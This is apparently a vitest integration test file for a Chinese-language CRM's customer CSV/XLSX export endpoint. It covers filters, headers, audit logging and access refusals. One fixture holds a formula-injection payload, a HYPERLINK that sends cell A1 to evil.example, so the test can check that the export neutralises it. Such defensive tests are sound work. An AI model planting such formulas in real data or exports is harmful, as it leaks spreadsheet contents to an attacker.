import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportDisposition } from '../../src/modules/customers/export.ts';
import { type Client, type TestApp, startTestApp } from '../support/harness.ts';
import { type Org, createCustomer, setupOrg } from './customers-fixtures.ts';

let t: TestApp;
let org: Org;

beforeAll(async () => {
  t = await startTestApp();
  org = await setupOrg(t);
});
afterAll(async () => {
  await t?.close();
});

/** The raw bytes of a download (the harness client reads answers as text). */
async function download(client: Client, path: string) {
  const response = await fetch(t.baseUrl + path, { headers: client.cookie ? { cookie: client.cookie } : {} });
  return {
    status: response.status,
    headers: response.headers,
    bytes: Buffer.from(await response.arrayBuffer()),
  };
}

function csvRows(bytes: Buffer): string[][] {
  const text = bytes.toString('utf8');
  expect(text.startsWith('\uFEFF'), 'CSV starts with a UTF-8 BOM').toBe(true);
  return parse(text.slice(1), { relax_column_count: false });
}

const query = (params: Record<string, string>) => new URLSearchParams(params).toString();

async function exportAudits(): Promise<any[]> {
  const response = await t.admin.get('/api/audit?entityType=customer&action=export&limit=200');
  expect(response.status).toBe(200);
  return response.body.items;
}

describe('GET /api/customers/export', () => {
  const tag = `导出测试${Date.now()}`;
  const made: Record<string, any> = {};

  beforeAll(async () => {
    made.active = await createCustomer(org.agentA, {
      name: '宁波鑫达进出口贸易有限公司',
      tags: [tag],
      stage: 'active',
      valueClass: 'A',
      notes: '每周两柜, 月结',
    });
    await org.agentA.post(`/api/customers/${made.active.id}/contacts`, {
      name: '钱经理',
      title: '物流经理',
      phones: ['13812345678'],
      isPrimary: true,
    });
    made.prospect = await createCustomer(org.agentB, { tags: [tag], stage: 'prospect' });
    made.formula = await createCustomer(org.agentA, {
      name: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
      tags: [tag],
      stage: 'active',
      phone: '+86 21 5888 1234',
    });
    made.otherTag = await createCustomer(org.agentA, { tags: ['别的标签'], stage: 'active' });
    made.archived = await createCustomer(org.agentA, { tags: [tag], stage: 'active' });
    const archived = await org.agentA.post(`/api/customers/${made.archived.id}/archive`, {});
    expect(archived.status).toBe(200);
  });

  it('streams a CSV of the filtered list only, as an attachment named by the day', async () => {
    const response = await download(
      org.agentB,
      `/api/customers/export?${query({ format: 'csv', tag, stage: 'active' })}`,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const disposition = response.headers.get('content-disposition') ?? '';
    expect(disposition).toMatch(/^attachment; filename="customers-\d{8}\.csv"; filename\*=UTF-8''/);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const [header, ...rows] = csvRows(response.bytes);
    expect(header.slice(0, 3)).toEqual(['客户编号', '客户名称', '简称']);
    const column = (name: string) => header.indexOf(name);
    // Newest first, like the list; the prospect, the archived file and the other tag are left out.
    expect(rows.map((r) => r[column('客户编号')])).toEqual([made.formula.id, made.active.id]);
    const active = rows[1];
    expect(active[column('客户名称')]).toBe('宁波鑫达进出口贸易有限公司');
    expect(active[column('阶段')]).toBe('合作');
    expect(active[column('价值等级')]).toBe('A');
    expect(active[column('负责人邮箱')]).toBe(org.agentA.user.email);
    expect(active[column('联系人')]).toBe('钱经理');
    expect(active[column('联系人电话')]).toBe('13812345678');
    expect(active[column('备注')]).toBe('每周两柜, 月结');
  });

  it('neutralises a name that spreadsheets would run as a formula, and a leading + in a phone', async () => {
    const response = await download(org.agentA, `/api/customers/export?${query({ tag, stage: 'active' })}`);
    const [header, ...rows] = csvRows(response.bytes);
    const formula = rows.find((r) => r[header.indexOf('客户编号')] === made.formula.id)!;
    expect(formula[header.indexOf('客户名称')]).toBe(`'${made.formula.name}`);
    expect(formula[header.indexOf('电话')]).toMatch(/^'\+86/);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('writes an Excel workbook that exceljs reads, with English headers on request, cells as text', async () => {
    const response = await download(
      org.manager,
      `/api/customers/export?${query({ format: 'xlsx', headers: 'en', tag, stage: 'active' })}`,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="customers-\d{8}\.xlsx"; filename\*=UTF-8''customers-\d{8}\.xlsx$/,
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 3)).toEqual(['id', 'name', 'shortName']);
    expect(sheet.rowCount).toBe(3);
    const ids = [2, 3].map((n) => sheet.getRow(n).getCell(1).value);
    expect(ids).toEqual([made.formula.id, made.active.id]);
    const name = sheet.getRow(2).getCell(2);
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.value).toBe(`'${made.formula.name}`);
  });

  it('filters like the list: archived files, several stages, an owner', async () => {
    const archived = await download(org.agentA, `/api/customers/export?${query({ tag, archived: 'true' })}`);
    expect(
      csvRows(archived.bytes)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual([made.archived.id]);
    const stages = await download(
      org.agentA,
      `/api/customers/export?tag=${encodeURIComponent(tag)}&stage=active&stage=prospect`,
    );
    expect(
      csvRows(stages.bytes)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual([made.formula.id, made.prospect.id, made.active.id]);
    const owner = await download(
      org.agentA,
      `/api/customers/export?${query({ tag, ownerId: org.agentB.user.id })}`,
    );
    expect(
      csvRows(owner.bytes)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual([made.prospect.id]);
    const none = await download(org.agentA, `/api/customers/export?${query({ tag: '没有这个标签' })}`);
    expect(csvRows(none.bytes)).toHaveLength(1);
  });

  it('writes every export to the audit log with its format, filters and row count', async () => {
    const before = (await exportAudits()).length;
    const response = await download(
      org.supervisorA,
      `/api/customers/export?${query({ format: 'xlsx', tag, stage: 'active' })}`,
    );
    expect(response.status).toBe(200);
    const entries = await exportAudits();
    expect(entries).toHaveLength(before + 1);
    expect(entries[0]).toMatchObject({
      action: 'export',
      entityType: 'customer',
      actorId: org.supervisorA.user.id,
      actorName: '陈主管',
      after: { format: 'xlsx', filters: { tag, stage: ['active'] }, rows: 2 },
    });
  });

  it('refuses portal users and anonymous callers, and logs no export for them', async () => {
    const before = (await exportAudits()).length;
    const portal = await t.userClient('portal', { customerId: made.active.id });
    const refused = await portal.get(`/api/customers/export?${query({ tag })}`);
    expect(refused.status).toBe(403);
    expect(refused.headers.get('content-type')).toContain('application/problem+json');
    expect((await t.anonymous().get('/api/customers/export')).status).toBe(401);
    expect(await exportAudits()).toHaveLength(before);
  });

  it('answers a bad format, an unknown parameter or a bad filter with 400', async () => {
    for (const path of [
      '/api/customers/export?format=pdf',
      '/api/customers/export?format=csv&limit=10',
      '/api/customers/export?stage=dormant-ish',
      '/api/customers/export?ownerId=not-a-uuid',
      '/api/customers/export?headers=fr',
    ]) {
      const response = await org.agentA.get(path);
      expect(response.status, path).toBe(400);
      expect(response.body.type, path).toBeDefined();
    }
  });

  it('is not taken for a customer id by /api/customers/:id, which keeps working', async () => {
    const exported = await download(org.agentA, '/api/customers/export');
    expect(exported.status).toBe(200);
    expect(exported.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect((await org.agentA.get(`/api/customers/${made.active.id}`)).body.id).toBe(made.active.id);
    expect((await org.agentA.get('/api/customers/exports')).status).toBe(400);
  });
});

describe('export file name', () => {
  it('is the day in China, with a Chinese name for Chinese headers', () => {
    // 16:30 UTC is already the next day in Shanghai.
    const at = new Date('2025-03-13T16:30:00Z');
    expect(exportDisposition('csv', at)).toBe(
      `attachment; filename="customers-20250314.csv"; filename*=UTF-8''${encodeURIComponent('客户-20250314.csv')}`,
    );
    expect(exportDisposition('xlsx', at, 'en')).toBe(
      `attachment; filename="customers-20250314.xlsx"; filename*=UTF-8''customers-20250314.xlsx`,
    );
  });
});
